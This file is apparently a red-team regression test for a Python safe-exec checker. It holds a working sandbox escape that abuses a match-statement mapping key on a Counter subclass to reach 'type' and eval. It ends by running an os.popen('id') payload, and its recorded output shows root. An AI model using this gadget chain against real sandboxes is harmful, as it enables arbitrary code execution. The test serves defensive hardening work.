# expect: reject match
# line: 33
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family A: a dotted value pattern or mapping-pattern key whose root is no import (a star-imported name, a program subclass of a library class, cls, an alias, a for target) hands a library method, class or container to the subject's __eq__ or get (the red team's program)
# Mechanism: as ok_02, with the root being cls of a classmethod of a program subclass of 
# collections.Counter (a parameter: no import binding). 'case {cls.copy: _}' hands Counter.copy as a 
# plain function to the subject's get(); the classmethod returns e.args[0]. Rule unbound judges cls 
# as such a class (received_libclass) everywhere but in a pattern.
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (the 11b end gadget), 
# called: runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD dc5a2f6
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Grab(dict):
    def get(self, k, d=None):
        raise LookupError(k)

class K(collections.Counter):
    @classmethod
    def grab(cls):
        try:
            match Grab(a=1):
                case {cls.copy: _}:
                    pass
        except Exception as e:
            return e.args[0]

f = K.grab()
print("by value:", f)
T = f(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
